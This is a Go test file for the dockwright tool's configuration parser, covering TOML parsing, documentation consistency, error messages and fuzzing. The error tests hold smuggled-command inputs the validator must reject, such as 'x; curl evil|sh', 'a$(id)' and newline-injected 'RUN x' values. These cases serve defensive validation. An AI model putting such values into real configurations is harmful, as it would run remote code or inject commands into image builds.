package config

import (
	"errors"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/dockwright/dockwright/detect/facts"
)

// TestKeys holds that the documented keys are those of the struct, in its order.
func TestKeys(t *testing.T) {
	var tags func(s reflect.Type, prefix string) []string
	tags = func(s reflect.Type, prefix string) []string {
		var out []string
		for i := range s.NumField() {
			f := s.Field(i)
			switch tag := f.Tag.Get("toml"); {
			case tag == "":
				t.Errorf("%s has no toml tag", f.Name)
			case tag == "-":
			case f.Type.Kind() == reflect.Struct:
				out = append(out, tags(f.Type, prefix+tag+".")...)
			case f.Type.Kind() == reflect.Map:
				out = append(out, tags(f.Type.Elem(), prefix+tag+".NAME.")...)
			default:
				out = append(out, prefix+tag)
			}
		}
		return out
	}
	if diff := cmp.Diff(tags(reflect.TypeFor[Config](), ""), Keys()); diff != "" {
		t.Errorf("the struct's tags and Keys() differ:\n%s", diff)
	}
}

// TestPage holds that docs/configuration.md has a heading for each key, in the
// order of Keys(), and for no other, and that its examples are valid.
func TestPage(t *testing.T) {
	page, err := os.ReadFile("../../docs/configuration.md")
	if err != nil {
		t.Fatal(err)
	}
	text := strings.ReplaceAll(string(page), "\r\n", "\n")
	var headings []string
	for line := range strings.Lines(text) {
		if h, ok := strings.CutPrefix(strings.TrimSpace(line), "### `"); ok {
			headings = append(headings, strings.TrimSuffix(h, "`"))
		}
	}
	if diff := cmp.Diff(Keys(), headings); diff != "" {
		t.Errorf("Keys() and the headings of docs/configuration.md differ:\n%s", diff)
	}
	for _, k := range Table() {
		_, section, _ := strings.Cut(text, "### `"+k.Name+"`\n\n")
		section, _, _ = strings.Cut(section, "\n#")
		if !strings.HasPrefix(section, "Type: "+string(k.Type)) {
			t.Errorf("the section of %s does not begin with %q", k.Name, "Type: "+string(k.Type))
		}
		if flag := "Flag: `--" + k.Flag + "`"; k.Flag != "" && !strings.Contains(section, flag) || k.Flag == "" && strings.Contains(section, "Flag: ") {
			t.Errorf("the section of %s does not say %q, or names a flag that there is not", k.Name, flag)
		}
		for _, v := range slices.Concat(k.Values, k.Usual) {
			if !strings.Contains(section, "`"+v+"`") && !strings.Contains(section, `"`+v+`"`) {
				t.Errorf("the section of %s does not name the value %s", k.Name, v)
			}
		}
	}
	for _, k := range Table() {
		if k.Help == "" || strings.Contains(k.Help, "\n") {
			t.Errorf("%s has no line of help", k.Name)
		}
	}
	seen := map[string]bool{}
	for i, block := range strings.Split(text, "```toml\n")[1:] {
		block, _, _ = strings.Cut(block, "```")
		name := FileName
		if strings.Contains(block, "[tool.dockwright") {
			name = "pyproject.toml"
		}
		c, err := Parse(name, []byte(block))
		if err != nil {
			t.Errorf("example %d of docs/configuration.md: %v\n%s", i+1, err, block)
		}
		if c.Path == "" {
			t.Errorf("example %d of docs/configuration.md configures nothing:\n%s", i+1, block)
		}
		for _, key := range Keys() {
			seen[key] = seen[key] || strings.Contains(block, key[strings.LastIndexByte(key, '.')+1:]+" = ")
		}
	}
	for _, key := range Keys() {
		if !seen[key] {
			t.Errorf("docs/configuration.md has no example of %s", key)
		}
	}
}

func TestParse(t *testing.T) {
	full := `manager = "poetry"
package = "api"
python = "3.13"
base = "alpine"
debian = "bookworm"
groups = ["prod"]
extras = ["cpu", "pdf"]
requirements = ["requirements/prod.txt"]
command = ["python", "-m", "x y"]
port = 8080
ignore = ["data/**", "!data/keep"]
check-stage = true
optional-libraries = ["libX11.so.6"]
system-packages = { build = ["g++"], runtime = ["libpq5=15.1-0+deb12u1"], exclude = ["git"] }
needs = { ta-lib = { build = ["libta-dev"], runtime = ["libta0"] }, docopt = {} }
`
	want := Config{Manager: facts.Poetry, Package: "api", Python: "3.13", Base: "alpine", Debian: "bookworm", Groups: []string{"prod"},
		Extras: []string{"cpu", "pdf"}, Requirements: []string{"requirements/prod.txt"}, Command: []string{"python", "-m", "x y"}, Port: 8080,
		Packages: Packages{Build: []string{"g++"}, Runtime: []string{"libpq5=15.1-0+deb12u1"}, Exclude: []string{"git"}}, CheckStage: true, OptionalLibraries: []string{"libX11.so.6"},
		Needs:  map[string]Needs{"ta-lib": {Build: []string{"libta-dev"}, Runtime: []string{"libta0"}}, "docopt": {}},
		Ignore: []string{"data/**", "!data/keep"}}
	at := func(c Config, path string) Config { c.Path = path; return c }
	for _, c := range []struct {
		name, path, text string
		want             Config
	}{
		{"all in a file", "dockwright.toml", full, at(want, "dockwright.toml")},
		{"all in a pyproject", "a/pyproject.toml", "[project]\nname = \"x\"\n[tool.dockwright]\n" + full, at(want, "a/pyproject.toml")},
		{"empty file", "a/dockwright.toml", "", Config{Path: "a/dockwright.toml"}},
		{"empty pyproject", "pyproject.toml", "", Config{}},
		{"empty table", "pyproject.toml", "[tool.dockwright]\n", Config{Path: "pyproject.toml"}},
		{"table of its own", "pyproject.toml", "[tool.dockwright.system-packages]\nbuild = [\"g++\"]\n",
			Config{Path: "pyproject.toml", Packages: Packages{Build: []string{"g++"}}}},
		{"dotted", "pyproject.toml", "tool.dockwright.base = \"slim\"\n", Config{Path: "pyproject.toml", Base: "slim"}},
		{"inline", "pyproject.toml", "[tool]\ndockwright = {port = 1}\n", Config{Path: "pyproject.toml", Port: 1}},
		{"quoted", "pyproject.toml", "['tool'.\"dockwright\"]\n\"base\" = 'slim'\n", Config{Path: "pyproject.toml", Base: "slim"}},
		{"CRLF", "dockwright.toml", "base = \"slim\"\r\nport = 1\r\n", Config{Path: "dockwright.toml", Base: "slim", Port: 1}},
		// An empty list is a choice (nothing), a missing one is none.
		{"no groups at all", "dockwright.toml", "groups = []\n", Config{Path: "dockwright.toml", Groups: []string{}}},
		{"a front end", "dockwright.toml", "[frontend]\ndir = \"ui\"\noutput = \"dist\"\ncommand = [\"npm\", \"run\", \"x\"]\nnode = \"24\"\n",
			Config{Path: "dockwright.toml", Frontend: Frontend{Dir: "ui", Output: "dist", Command: []string{"npm", "run", "x"}, Node: "24"}}},
		{"no front end", "dockwright.toml", "frontend = false\n", Config{Path: "dockwright.toml", Frontend: Frontend{None: true}}},
		{"one patch release", "dockwright.toml", "python = \"3.13.2\"\n", Config{Path: "dockwright.toml", Python: "3.13.2"}},
		// Other tables are nobody's business here.
		{"other tables", "pyproject.toml", "[tool.poetry]\nbase = 3\n[tool.other]\ndockwright = {no = 1}\n[dockwright]\nport = \"x\"\n", Config{}},
		{"another tool's name", "pyproject.toml", "[tool.dockwright-extra]\nbase = 3\n", Config{}},
		{"another case", "pyproject.toml", "[tool.Dockwright]\nbase = 3\n# dockwright\n", Config{}},
		// Without a word of us the file is not parsed: its own reader judges it.
		{"broken pyproject of others", "pyproject.toml", "[project\n", Config{}},
		{"a file that ends like ours", "notdockwright.toml", "base = 3\n", Config{}},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, err := Parse(c.path, []byte(c.text))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(c.want, got, cmpopts.IgnoreUnexported(Config{})); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestLine(t *testing.T) {
	c, err := Parse("pyproject.toml", []byte("[tool.dockwright.system-packages]\nbuild = []\nexclude = ['x']\n[tool.dockwright.needs.x]\n\n[tool.dockwright.needs]\ny.build = []"))
	if err != nil {
		t.Fatal(err)
	}
	for want, key := range map[int][]string{3: {"system-packages", "exclude"}, 4: {"needs", "x"}, 7: {"needs", "y"}, 0: {"needs", "z"}} {
		if got := c.Line(key...); got != want {
			t.Errorf("%v stands on line %d, not %d", key, got, want)
		}
	}
	if got := (Config{}).Line("base"); got != 0 {
		t.Errorf("no file, and line %d", got)
	}
}

// TestParseErrors has the line, a part of the fact and a part of the remedy.
func TestParseErrors(t *testing.T) {
	const types, oneOf = "docs/configuration.md", "give one of them"
	for _, c := range []struct {
		name, path, text string
		line             int
		fact, remedy     string
	}{
		{"broken", "dockwright.toml", "port = 1\nbase = \"slim\n", 2, "not valid TOML", "mend"},
		{"broken with our table", "pyproject.toml", "[tool.dockwright]\n\n[project\n", 3, "not valid TOML", "mend"},
		{"key twice", "dockwright.toml", "port = 1\nport = 2\n", 2, "port", "mend"},
		{"unknown", "dockwright.toml", "port = 1\n\ncolour = 1\n", 3, `unknown key "colour"`, "the keys are manager, package"},
		{"misspelt", "pyproject.toml", "[project]\nextra = 1\n[tool.dockwright]\nextra = []\n", 4, `unknown key "extra"`, `did you mean "extras"?`},
		{"transposed", "dockwright.toml", "pyhton = \"3.13\"\n", 1, `unknown key "pyhton"`, `did you mean "python"?`},
		{"below", "dockwright.toml", "[system-packages]\nbuilds = []\n", 2, `unknown key "system-packages.builds"`, `did you mean "system-packages.build"?`},
		{"below, in a pyproject", "pyproject.toml", "# x\n[tool.dockwright.system-packages]\nruntime = []\ndev = []\n", 4, `unknown key "system-packages.dev"`, "the keys are"},
		{"inline", "dockwright.toml", "system-packages = { build = [], run = [] }\n", 1, `"system-packages.run"`, `did you mean "system-packages.runtime"?`},
		{"a table by another spelling", "dockwright.toml", "[system_packages]\nbuild = []\n", 1, `"system_packages"`, `did you mean "system-packages"?`},
		{"a key of another table", "dockwright.toml", "runtime = []\n", 1, `"runtime"`, `did you mean "system-packages.runtime"?`},
		{"below frontend", "dockwright.toml", "[frontend]\noutputs = 1\n", 2, `"frontend.outputs"`, `did you mean "frontend.output"?`},
		{"below a process", "dockwright.toml", "[processes.mail]\ncomand = []\n", 2, `"processes.mail.comand"`, `did you mean "processes.mail.command"?`},
		{"far from all below a process", "dockwright.toml", "[processes.mail]\nreplicas = 2\n", 2, `"processes.mail.replicas"`, "the keys are processes.mail.command, processes.mail.port, processes.mail.health"},
		{"the beginning of one", "dockwright.toml", "optional = []\n", 1, `"optional"`, `did you mean "optional-libraries"?`},
		{"a value misspelt", "dockwright.toml", "base = \"slin\"\n", 1, "is not one of slim, alpine", `did you mean "slim"?`},
		{"a value to emit", "dockwright.toml", "emit = [\"composer\"]\n", 1, `emit "composer" is not one of `, `did you mean "compose"?`},
		{"table", "dockwright.toml", "[cache]\nx = 1\n", 1, `unknown key "cache"`, "the keys are"},
		{"another case", "dockwright.toml", "base = \"slim\"\nBase = \"alpine\"\n", 2, `unknown key "Base"`, `did you mean "base"?`},
		{"dotted name in quotes", "dockwright.toml", "\"system-packages.build\" = []\n", 1, "unknown key", "did you mean"},
		{"the first of several", "dockwright.toml", "zz = 1\nyy = 2\nxx = 3\n", 1, `"zz"`, "the keys are"},
		{"field without a key", "dockwright.toml", "Path = \"x\"\n", 1, `unknown key "Path"`, ""},
		{"the tag for none", "dockwright.toml", "- = \"x\"\n", 1, `unknown key "-"`, ""},

		{"integer", "pyproject.toml", "[tool.poetry]\nbase = \"x\"\n[tool.dockwright]\nbase = 3\n", 4, "base is an integer, not a string", types},
		{"float", "dockwright.toml", "# the usual slip\npython = 3.13\n", 2, "python is a floating-point number, not a string", "write it in quotes"},
		{"port in quotes", "dockwright.toml", "port = \"8000\"\n", 1, "port is a string, not an integer", "without quotes"},
		{"command as a string", "dockwright.toml", "command = \"python app.py\"\n", 1, "command is a string, not an array of strings", `in brackets, each entry in quotes`},
		{"mixed array", "dockwright.toml", "command = [\n  \"x\",\n  1,\n]\n", 1, "an entry of command is an integer, not a string", "in quotes"},
		{"nested array", "dockwright.toml", "groups = [[\"x\"]]\n", 1, "an entry of groups is an array", types},
		{"boolean", "dockwright.toml", "manager = true\n", 1, "manager is a boolean", types},
		{"date", "dockwright.toml", "debian = 2026-01-01\n", 1, "debian is a date or time", types},
		{"packages as a list", "dockwright.toml", "system-packages = [\"g++\"]\n", 1, "system-packages is an array, not a table", types},
		{"ours is no table", "pyproject.toml", "[tool]\ndockwright = 3\n", 2, "tool.dockwright is an integer, not a table", types},
		{"tool is no table", "pyproject.toml", "tool = 'dockwright'\n", 1, "tool is a string, not a table", types},
		{"array of tables", "pyproject.toml", "\n[[tool.dockwright]]\nbase = \"slim\"\n[[tool.dockwright]]\n", 2, "tool.dockwright is an array, not a table", types},
		{"too large", "dockwright.toml", "port = 99999999999999999999\n", 1, "not valid TOML", ""},

		{"manager", "dockwright.toml", "manager = \"conda\"\n", 1, `manager "conda" is not one of uv, poetry`, oneOf},
		{"base", "pyproject.toml", "[tool.x]\nbase = \"alpine\"\n[tool.dockwright]\nport = 1\nbase = \"ubuntu\"\n", 5, `base "ubuntu" is not one of slim, alpine`, oneOf},
		{"platform of 32 bits", "dockwright.toml", "platforms = [\"linux/amd64\", \"linux/arm/v7\"]\n", 1, `platforms has "linux/arm/v7": what an image for it takes is known for linux/amd64 and linux/arm64 only`, types},
		{"platform by its CPU", "dockwright.toml", "platforms = [\"x86_64\"]\n", 1, `platforms has "x86_64": write linux/amd64`, types},
		{"platform with a variant", "dockwright.toml", "platforms = [\"linux/arm64/v8\"]\n", 1, `write linux/arm64`, types},
		{"platform of another system", "dockwright.toml", "platforms = [\"windows/amd64\"]\n", 1, `the images are for Linux`, types},
		{"platform with a line break", "dockwright.toml", "platforms = [\"linux/amd64\\nRUN x\"]\n", 1, `"linux/amd64\nRUN x"`, types},
		{"no platform", "dockwright.toml", "platforms = []\n", 1, "platforms is empty", types},
		{"python as a range", "dockwright.toml", "python = \">=3.12\"\n", 1, "python", types},
		{"python as a major", "dockwright.toml", "python = \"3\"\n", 1, "python", types},
		{"python with a zero", "dockwright.toml", "python = \"3.09\"\n", 1, "python", types},
		{"python with a line break", "dockwright.toml", "python = \"3.13\\nRUN x\"\n", 1, "python", types},
		{"port", "dockwright.toml", "port = 65536\n", 1, "port 65536", types},
		{"negative port", "dockwright.toml", "port = -1\n", 1, "port -1", types},
		{"empty command", "dockwright.toml", "command = []\n", 1, "command is empty", types},
		{"a line as the program", "dockwright.toml", "command = [\"gunicorn app:app\"]\n", 1, `command names the program "gunicorn app:app": give each word by itself, as in ["gunicorn", "app:app"]`, types},
		{"empty program", "dockwright.toml", "command = [\"\", \"x\"]\n", 1, "command is empty", types},
		{"shell in a package", "dockwright.toml", "[system-packages]\nbuild = [\"g++\"]\nruntime = [\"x; curl evil|sh\"]\n", 3, "system-packages.runtime names", types},
		{"option as a package", "dockwright.toml", "\n[system-packages]\nbuild = [\"--allow-unauthenticated\"]\n", 3, "system-packages.build names", types},
		{"empty package", "dockwright.toml", "system-packages.build = [\"\"]\n", 1, "system-packages.build names", types},
		{"expansion in a package", "dockwright.toml", "system-packages.build = [\"a$(id)\"]\n", 1, "system-packages.build names", types},
		{"needs by another spelling", "dockwright.toml", "[needs.TA_Lib]\nbuild = [\"gcc\"]\n", 1, "its normalized one, ta-lib", types},
		{"needs a shell", "dockwright.toml", "[needs.ta-lib]\n\nbuild = [\"a|b\"]\n", 3, "needs.ta-lib.build names", types},
		{"needs misspelt", "dockwright.toml", "[needs.a]\nbuilds = []\n", 2, `unknown key "needs.a.builds"`, `did you mean "needs.a.build"?`},
		{"needs no table", "dockwright.toml", "needs.a = [\"gcc\"]\n", 1, "needs.a is an array, not a table", types},
		{"needs as a list", "dockwright.toml", "needs = [\"gcc\"]\n", 1, "needs is an array, not a table", types},
		{"exclude", "dockwright.toml", "system-packages.exclude = [\"-y\"]\n", 1, "system-packages.exclude names", types},
		{"a library with a line break", "dockwright.toml", "optional-libraries = [\"liba.so.1\\nEOF\"]\n", 1, "optional-libraries names", types},
		{"no library", "dockwright.toml", "optional-libraries = [\"tbb\"]\n", 1, "optional-libraries names", types},
		{"check-stage as text", "dockwright.toml", "check-stage = \"yes\"\n", 1, "check-stage is a string, not true or false", types},
		{"no specifier", "dockwright.toml", "required-version = \"0.1\"\n", 1, "required-version \"0.1\" is no version specifier", types},
		{"line break in ignore", "dockwright.toml", "port = 1\nignore = [\"a\\n!.env\"]\n", 2, "ignore holds a pattern", types},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, err := Parse(c.path, []byte(c.text))
			var e *facts.Error
			if !errors.As(err, &e) {
				t.Fatalf("no *facts.Error, but %v and %+v", err, got)
			}
			if !reflect.DeepEqual(got, Config{}) {
				t.Errorf("an error and half an answer: %+v", got)
			}
			if e.Path != c.path || e.Line != c.line {
				t.Errorf("at %s:%d, not line %d: %s", e.Path, e.Line, c.line, e.Fact)
			}
			if !strings.Contains(e.Fact, c.fact) || !strings.Contains(e.Remedy, c.remedy) || e.Remedy == "" {
				t.Errorf("said %q (%q), want %q (%q)", e.Fact, e.Remedy, c.fact, c.remedy)
			}
		})
	}
}

func TestNearest(t *testing.T) {
	for _, c := range []struct{ name, want string }{
		{"ports", "port"}, {"group", "groups"}, {"comand", "command"}, {"requirement", "requirements"},
		{"", ""}, {"entirely-different", ""},
	} {
		if got := Nearest(c.name, Keys()); got != c.want {
			t.Errorf("%q: %q, not %q", c.name, got, c.want)
		}
	}
}

// TestEveryKeyIsMeant holds for each key that the error about a misspelling of it, or of
// a table that it is in, names it.
func TestEveryKeyIsMeant(t *testing.T) {
	for _, key := range Keys() {
		names := strings.Split(strings.Replace(key, "NAME", "some", 1), ".")
		for i, name := range names {
			if len(names) == 3 && i == 1 {
				continue // a name of the user's
			}
			slip := slices.Clone(names)
			slip[i] = name[:len(name)-1] + "_" + name[len(name)-1:]
			_, err := Parse(FileName, []byte(strings.Join(slip, ".")+" = 1\n"))
			var e *facts.Error
			if want := strings.Join(names[:i+1], "."); !errors.As(err, &e) || e.Remedy != "did you mean \""+want+"\"?" {
				t.Errorf("%v: %v, and not %s", slip, err, want)
			}
		}
	}
}

// FuzzParse holds for any input that it ends without panic, in an answer that
// Check accepts or in an error that names the file, and the same each time.
func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"[tool.dockwright]\nbase = \"alpine\"\nport = 1\n", "tool.dockwright.command = ['a']\n", "[[tool.dockwright]]\n",
		"[tool.dockwright.system-packages]\nbuild = ['g++']\n", "a = [[[[", "dockwright\x00", "tool.dockwright = {b=1, a=2}",
		"[tool.dockwright]\nx = 1\ny = 2\n[tool.dockwright.z]\n", "\xef\xbb\xbf[tool.dockwright]\nport=1",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, name := range []string{"pyproject.toml", FileName} {
			c, err := Parse(name, data)
			again, errAgain := Parse(name, slices.Clone(data))
			if !reflect.DeepEqual(c, again) || (err == nil) != (errAgain == nil) || err != nil && err.Error() != errAgain.Error() {
				t.Fatalf("%v, then %v", err, errAgain)
			}
			if err != nil {
				var e *facts.Error
				if !errors.As(err, &e) || e.Path != name || e.Fact == "" || e.Remedy == "" || e.Line < 0 {
					t.Fatalf("%#v", err)
				}
				continue
			}
			if err := c.Check(); err != nil {
				t.Fatal(err)
			}
		}
	})
}
